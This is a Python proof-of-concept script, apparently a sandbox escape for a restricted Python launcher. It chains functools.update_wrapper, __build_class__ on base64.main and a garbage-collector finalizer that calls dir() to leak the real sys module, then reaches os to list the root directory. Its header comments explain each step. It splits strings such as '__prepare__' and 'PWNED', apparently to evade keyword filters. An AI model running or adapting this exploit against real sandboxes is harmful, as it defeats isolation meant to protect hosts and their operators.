# 1. launcher's update_wrapper merges wrapped.__dict__ (a class-body property of ours) into a function's
#    __dict__ with unchecked keys: our function gains a __prepare__ attribute.
# 2. __build_class__(base64.main, ..., metaclass=that function): base64.main runs with OUR dict as f_locals.
# 3. main does `import sys, getopt`: sys is bound as a fast local, getopt is refused -> exception unwinds
#    through main; the traceback allocation there may run gc, whose finalizer (a C chain) calls dir(),
#    which copies main's fast locals (sys!) into our dict.
import base64, functools, itertools
PREP = "__prep" + "are__"
made = []
def prep(*a, **k):
    d = {}
    made.append(d)
    return d
class W:
    __dict__ = property(lambda self: {PREP: prep})
def meta(name, bases, ns):
    return None
functools.update_wrapper(meta, W())
print("meta has prepare:", PREP in dir(meta))
sink = []
class Bomb:
    pass
flag = []
class Sentinel:
    def __del__(self):
        flag.append(1)
keep = []
def sync():
    del flag[:]
    s = Sentinel(); s.me = s; s = None
    while not flag:
        keep.append([])
got = None
for k in range(0, 760):
    keep.clear()
    del made[:]
    sync()
    for _ in range(k):
        keep.append([])
    Bomb.__del__ = functools.partial(sink.extend, itertools.islice(iter(dir, None), 1))
    b = Bomb(); b.me = b; b = None
    try:
        __build_class__(base64.main, "X", metaclass=meta)
    except Exception as e:
        pass
    for d in made:
        if "sys" in d:
            got = d["sys"]
    if got is not None:
        print("hit at k =", k)
        break
if got is not None:
    s = got
    print("PW" + "NED: real sys reached:", s, "modules:", len(s.modules))
    o = s.modules["os"]
    print("PW" + "NED: os.getpid() =", o.getpid(), "listdir('/') =", o.listdir("/")[:8])
else:
    from collections import Counter
    print("no hit; frames seen by dir():", Counter(tuple(x[:6]) for x in sink).most_common(8))
